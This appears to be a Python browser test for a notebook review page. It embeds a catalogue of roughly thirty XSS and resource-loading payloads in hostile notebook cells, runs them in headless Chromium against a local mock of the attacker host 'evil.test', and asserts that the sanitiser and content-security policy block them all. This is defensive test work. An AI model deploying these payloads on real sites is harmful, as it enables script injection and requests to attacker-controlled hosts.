"""Outputs that try to do something, on the review page in a real browser.

One browser opens pages of a server on this machine, to which every name on the network leads. The
page must make it ask for nothing and run nothing, where the same outputs without our two walls do;
and either wall alone must hold.
"""

import base64
import html
import json
import os
import re
import shutil
import signal
import subprocess
import threading
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from kernel_exec.review.page import review

CHROMIUM = shutil.which("chromium")

HIT = "http://evil.test/WHERE"
RUN = "parent.ran.push('WHERE')"

PAYLOADS = {
    "script": f"<script>{RUN}</script>",
    "script from elsewhere": f'<script src="{HIT}/script.js"></script>',
    "module": f'<script type="module">import "{HIT}/module.js"</script>',
    "picture that fails": f'<img src="{HIT}/picture.png" onerror="{RUN}">',
    "picture for other screens": f'<img srcset="{HIT}/srcset.png 1x"><picture><source '
    f'srcset="{HIT}/source.png"><img></picture>',
    "SVG": f'<svg onload="{RUN}"><script>{RUN}</script><image href="{HIT}/svg.png"/></svg>',
    "SVG animation": f'<svg><a><animate attributeName="href" values="javascript:{RUN}"/></a></svg>',
    "MathML": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 '
    f'onerror={RUN}&gt;">',
    "handlers": f'<div onmouseover="{RUN}" onclick="{RUN}" onfocus="{RUN}" tabindex="0">x</div>',
    "details": f'<details open ontoggle="{RUN}"><summary>x</summary></details>',
    "link to a script": f'<a href="javascript:{RUN}">x</a><a href=" java\nscript:{RUN}">x</a>',
    "link to data": f'<a href="data:text/html,<script>{RUN}</script>">x</a>',
    "CSS": f'<style>@import "{HIT}/import.css"; body {{ background: url({HIT}/body.png) }}'
    f"@font-face {{ font-family: x; src: url({HIT}/font.woff) }} p {{ font-family: x }}"
    "</style><p>x",
    "stylesheet": f'<link rel="stylesheet" href="{HIT}/sheet.css">',
    "prefetch": f'<link rel="prefetch" href="{HIT}/prefetch"><link rel="preload" as="image" '
    f'href="{HIT}/preload.png"><link rel="icon" href="{HIT}/icon.png">'
    f'<link rel="manifest" href="{HIT}/manifest">',
    "style": f'<p style="background: url({HIT}/style.png); position: fixed; inset: 0">x</p>',
    "frame": f'<iframe src="{HIT}/frame"></iframe><iframe srcdoc="<script>parent.{RUN}</script>">'
    "</iframe>",
    "frame in a frame": '<iframe srcdoc="<iframe srcdoc=&quot;<script>parent.parent.'
    f'{RUN}</script>&quot;></iframe>"></iframe>',
    "object": f'<object data="{HIT}/object"></object><embed src="{HIT}/embed">',
    "media": f'<video src="{HIT}/video" poster="{HIT}/poster.png" autoplay></video>'
    f'<audio src="{HIT}/audio" autoplay></audio>',
    "form": f'<form action="{HIT}/form"><input autofocus onfocus="{RUN}"><button id="go">x'
    "</button></form>",
    "old pictures": f'<table background="{HIT}/table.png"><tr><td background="{HIT}/td.png">x'
    f'</table><input type="image" src="{HIT}/input.png">',
    "attribute in an attribute": f"<a title='<img><script>{RUN}</script>' href='https://x'>x</a>"
    f'<img alt="<img>&quot; onerror={RUN} src=x" src="nowhere">',
    "unfinished tag": f'<img src="nowhere" onerror="{RUN}" x="',
    "unfinished comment": "<!-- <p>",
    "unfinished raw text": f"<textarea><title></textarea><script>{RUN}</script>",
    "end of the page": f"</div></section></main></body></html><script>{RUN}</script>",
    "end of the style": f"</style><script>{RUN}</script>",
    "character data": f"<![CDATA[<script>{RUN}</script>]]>",
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
    "template": f'<template shadowrootmode="open"><img src=x onerror="{RUN}"></template>',
    "base": f'<base href="{HIT}/base/"><img src="relative.png">',
}
"""What is not held back runs or asks, and says so."""

NAVIGATION = {
    "refresh": f'<meta http-equiv="refresh" content="0; url={HIT}/refresh">',
    "policy": '<meta http-equiv="Content-Security-Policy" content="default-src *">',
}
"""No policy of a page keeps it from leaving; the sanitiser does."""

SVG = (
    f'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="{RUN}">'
    f'<style>@import "{HIT}/svg.css";</style><script>{RUN}</script>'
    f'<image href="{HIT}/in-svg.png" width="9" height="9"/><foreignObject width="9" height="9">'
    f'<iframe xmlns="http://www.w3.org/1999/xhtml" src="{HIT}/foreign"/></foreignObject></svg>'
)


def everywhere(payload: str, where: str) -> list[dict[str, Any]]:
    """Cells that hold `payload` in all the places that a page shows."""
    payload = payload.replace("WHERE", where)
    svg = SVG.replace("WHERE", where)
    data = {"text/html": payload, "text/plain": payload}
    breaking = f'">{payload}'
    about = {
        "entry": breaking,
        "number": 1,
        "intent": breaking,
        "author": breaking,
        "outcome": "ok",
        "verdict": {"verdict": "different", "difference": breaking},
    }
    outputs = [
        {"output_type": "display_data", "metadata": {}, "data": data},
        {"output_type": "display_data", "metadata": {}, "data": {"text/markdown": payload}},
        {"output_type": "display_data", "metadata": {}, "data": {"text/latex": payload}},
        {"output_type": "display_data", "metadata": {}, "data": {breaking: payload}},
        {"output_type": "display_data", "metadata": {}, "data": {"application/json": [payload]}},
        {"output_type": "display_data", "metadata": {}, "data": {"image/svg+xml": svg}},
        {"output_type": "display_data", "metadata": {}, "data": {"image/png": f'"{payload}'}},
        {
            "output_type": "display_data",
            "metadata": {"image/png": {"alt": breaking, "width": f'1"{payload}'}},
            "data": {"image/png": PNG},
        },
        {
            "output_type": "display_data",
            "metadata": {},
            "data": {
                "application/vnd.plotly.v1+json": {
                    "data": [],
                    "layout": {"title": {"text": payload}},
                }
            },
        },
        {
            "output_type": "display_data",
            "metadata": {},
            "data": {"application/javascript": "parent.ran.push('x')", "text/plain": payload},
        },
        {"output_type": "stream", "name": breaking, "text": f"{payload}\x1b[31m{payload}"},
        {"output_type": "error", "ename": payload, "evalue": payload, "traceback": [payload]},
    ]
    return [
        {
            "cell_type": "markdown",
            "metadata": {},
            "source": f"# {payload}\n\n{payload}\n\n`{payload}`\n\n| a |\n|---|\n| {payload} |\n\n"
            f"```{breaking}\n{payload}\n```\n\n![{breaking}](attachment:x) [{payload}](#{payload})",
            "attachments": {"x": {"image/svg+xml": base64.b64encode(svg.encode()).decode()}},
        },
        {"cell_type": "raw", "metadata": {}, "source": payload},
        {
            "cell_type": "code",
            "id": breaking,
            "metadata": {"kernel_exec": about, "tags": [breaking]},
            "execution_count": 1,
            "source": f"%%{payload}\n'''{payload}'''  # {payload}",
            "outputs": outputs,
        },
        {
            "cell_type": breaking,
            "metadata": {"kernel_exec": {"role": breaking}},
            "source": payload,
        },
    ]


PNG = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJg"
    "gg=="
)


def hostile_notebook(where: str) -> dict[str, Any]:
    """All payloads everywhere, names of the notebook included, and things that are very wide."""
    named = f'"></title><script>{RUN}</script>'.replace("WHERE", where)
    wide = "<table><tr>" + "<td>wide</td>" * 200 + "</tr></table>"
    cells = [
        cell for each in ({**PAYLOADS, **NAVIGATION}).values() for cell in everywhere(each, where)
    ]
    finding = "\n\n".join([*NAVIGATION.values(), *PAYLOADS.values()])
    cells.append(
        {
            "cell_type": "markdown",
            "metadata": {"kernel_exec": {"role": "note", "number": 1}},
            "source": finding.replace("WHERE", where)[:3000],
        }
    )
    cells += everywhere(wide, where) + everywhere("x" * 3000, where)
    return {
        "nbformat": 4,
        "nbformat_minor": 5,
        "metadata": {
            "title": named,
            "kernelspec": {"name": named, "display_name": named, "language": named},
            "language_info": {"name": named, "pygments_lexer": named, "version": named},
            "kernel_exec": {
                "name": named,
                "environment": named,
                "started": named,
                "clients": [named],
                "verification": {
                    "verdict": "failed",
                    "reason": named,
                    "python": named,
                    "packages": {named: named},
                },
            },
        },
        "cells": cells,
    }


class _Server(ThreadingHTTPServer):
    """Answers with its pages, and keeps what else it was asked for."""

    daemon_threads = False

    def __init__(self, pages: dict[str, str]) -> None:
        super().__init__(("127.0.0.1", 0), _Handler)
        self.pages = pages
        self.asked: list[str] = []


class _Handler(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        assert isinstance(self.server, _Server)
        page = self.server.pages.get(self.path)
        if page is None:
            self.server.asked.append(f"{self.headers['Host']}{self.path}")
        self.send_response(404 if page is None else 200)
        body = (page or "").encode()
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *arguments: object) -> None:
        pass


@contextmanager
def server(pages: dict[str, str]) -> Iterator[_Server]:
    serving = _Server(pages)
    thread = threading.Thread(target=serving.serve_forever)
    thread.start()
    try:
        yield serving
    finally:
        serving.shutdown()
        thread.join()
        serving.server_close()


def browse(port: int, path: str, folder: Path) -> str:
    """The page at `path` as it stands after a while of the browser's own time."""
    assert CHROMIUM is not None
    with subprocess.Popen(
        [
            CHROMIUM,
            "--headless=new",
            "--no-sandbox",
            "--disable-gpu",
            "--disable-background-networking",
            "--disable-component-update",
            "--disable-extensions",
            "--no-first-run",
            f"--user-data-dir={folder / 'profile'}",
            f"--host-resolver-rules=MAP * 127.0.0.1:{port}",
            "--virtual-time-budget=5000",
            "--dump-dom",
            f"http://127.0.0.1:{port}{path}",
        ],
        stdin=subprocess.DEVNULL,
        stdout=subprocess.PIPE,
        stderr=subprocess.DEVNULL,
        env={**os.environ, "HOME": str(folder)},
        start_new_session=True,
        text=True,
    ) as browser:
        try:
            written, _ = browser.communicate(timeout=100)
        finally:
            with suppress(ProcessLookupError):
                os.killpg(browser.pid, signal.SIGKILL)
    return written


WATCH = """<!doctype html><title>watch</title><script>
ran = [];
const names = ["mouseover", "click", "focus", "toggle", "error", "load"];
addEventListener("load", () => setTimeout(() => {
  const found = {};
  for (const frame of document.querySelectorAll("iframe")) {
    const page = frame.contentDocument;
    if (!page) { found[frame.id] = null; continue; }
    page.querySelectorAll("details").forEach(each => each.open = true);
    page.querySelectorAll("*").forEach(each => names.forEach(
      name => each.tagName == "A" || each.dispatchEvent(new Event(name))));
    found[frame.id] = {
      title: page.title,
      widest: [...page.querySelectorAll("body *")].filter(each => {
        for (let up = each; up; up = up.parentElement)
          if (getComputedStyle(up).overflowX != "visible") return false;
        return each.getBoundingClientRect().right > frame.clientWidth;
      }).map(each => each.outerHTML.slice(0, 100)).slice(0, 5),
      wide: page.documentElement.scrollWidth - frame.clientWidth,
      undescribed: page.querySelectorAll("img:not([alt]), img[alt='']").length,
      pictures: [...page.images].filter(each => each.naturalWidth).length,
      links: [...new Set([...page.links].map(each => each.protocol))],
      covered: [...page.querySelectorAll("main *")].filter(
        each => getComputedStyle(each).position == "fixed").length,
    };
  }
  setTimeout(() => {
    const told = document.createElement("pre");
    told.textContent = JSON.stringify({ran, found});
    document.body.append(told);
  }, 500);
}, 1000));
</script>"""


@pytest.mark.slow
@pytest.mark.timeout(120)
@pytest.mark.skipif(CHROMIUM is None, reason="no `chromium` is on PATH")
def test_a_browser_runs_nothing_and_asks_for_nothing(tmp_path: Path) -> None:
    page = review(hostile_notebook("review"))
    policy = re.search(r"<meta http-equiv=[^>]*>", page)
    assert policy is not None

    def unguarded(where: str, payloads: dict[str, str]) -> dict[str, str]:
        """A page for each, because one may swallow what comes after it."""
        return {
            f"/{where}/{at}": f"<!doctype html><head>HEAD</head><body>{payload}".replace(
                "WHERE", where
            )
            for at, payload in enumerate(payloads.values())
        }

    raw = unguarded("raw", {**PAYLOADS, **NAVIGATION})
    pages = {
        "/review": page,
        "/unpoliced": page.replace(policy[0], "").replace("review'", "unpoliced'"),
        **{path: body.replace("HEAD", "") for path, body in raw.items()},
        **{
            path: body.replace("HEAD", policy[0])
            for path, body in unguarded("policy", PAYLOADS).items()
        },
    }
    frames = [("review", 400), ("review", 800), ("review", 1400), ("unpoliced", 800)]
    frames += [(path[1:], 300) for path in pages if path.count("/") == 2]
    pages["/watch"] = WATCH + "".join(
        f'<iframe id="{path}-{width}" src="/{path}" width="{width}" height="300"></iframe>'
        for path, width in frames
    )
    with server(pages) as serving:
        written = browse(serving.server_port, "/watch", tmp_path)
        asked = list(serving.asked)
    told = re.search(r"<pre>(.*)</pre>", written, re.DOTALL)
    assert told is not None, written[-2000:]
    seen = json.loads(html.unescape(told[1]))
    ran = seen["ran"]

    # the outputs are hostile indeed
    assert ran.count("raw") > 15, ran
    asked_raw = {each for each in asked if each.startswith("evil.test/raw")}
    assert len(asked_raw) > 15, asked
    # and neither of the walls lets anything through
    assert set(ran) == {"raw"}
    assert not [each for each in asked if "evil.test" in each and each not in asked_raw]
    for name in ("review-400", "review-800", "review-1400", "unpoliced-800"):
        found = seen["found"][name]
        assert found["title"].endswith("· review"), found
        assert found["wide"] <= 0, (name, found)
        assert not found["undescribed"], found
        assert not found["covered"], found
        assert found["pictures"] > 50, found
        assert set(found["links"]) <= {"http:", "https:", "mailto:"}, found
